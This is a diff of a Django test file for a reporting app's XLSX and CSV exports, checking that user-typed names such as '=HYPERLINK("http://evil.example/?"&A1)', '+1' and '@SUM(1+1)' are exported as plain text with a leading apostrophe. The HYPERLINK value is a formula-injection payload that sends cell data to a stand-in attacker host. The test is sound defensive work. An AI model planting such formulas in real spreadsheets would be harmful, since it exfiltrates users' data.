@@ -246,21 +246,35 @@ def test_the_xlsx_holds_the_dashboards_figures(client, dataset, coordinator):
     assert [c.value for c in partners[2]][:7] == ["janvier 2024", "Mission locale", 1, 2, 1, 1, 1]
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def test_names_typed_by_users_never_become_formulas(client, dataset, operator, coordinator):
-    site = operator.sites.get(name="Place A")
-    site.name = '=HYPERLINK("http://evil.example/?"&A1)'
-    site.save()
+    """Sites, partners and topics are row and column labels of the XLSX and the CSV: a name
+    a spreadsheet would run (= + - @) comes out with a leading apostrophe, as plain text."""
+    names = {
+        operator.sites.get(name="Place A"): '=HYPERLINK("http://evil.example/?"&A1)',
+        operator.partners.get(name="Mission locale"): "+1",
+        operator.topics.get(name="CAF"): "@SUM(1+1)",
+    }
+    for item, name in names.items():
+        item.name = name
+        item.save()
+    neutral = {"'" + name for name in names.values()}
     client.force_login(coordinator)
     workbook = load_workbook(
         io.BytesIO(client.get(reverse("reporting:export_xlsx"), YEAR_QUERY).content)
     )
     cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
     assert not [cell.value for cell in cells if cell.data_type == "f"]
-    assert site.name in [cell.value for cell in cells]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert neutral <= texts
+    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
+    assert not [title for title in workbook.sheetnames if title.startswith(("'", *FORMULA_STARTS))]
     content = client.get(reverse("reporting:export_csv"), YEAR_QUERY).content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(content), delimiter=";"))
-    assert "'" + site.name in [row[1] for row in rows]
-    assert not [row for row in rows if any(cell.startswith(("=", "@")) for cell in row)]
+    assert neutral <= {cell for row in rows[1:] for cell in row[1:3]}  # row and column labels
+    assert not [row for row in rows if any(cell.startswith(FORMULA_STARTS) for cell in row)]
 
 
 def test_the_csv_lists_every_figure(client, dataset, operator, make_member):
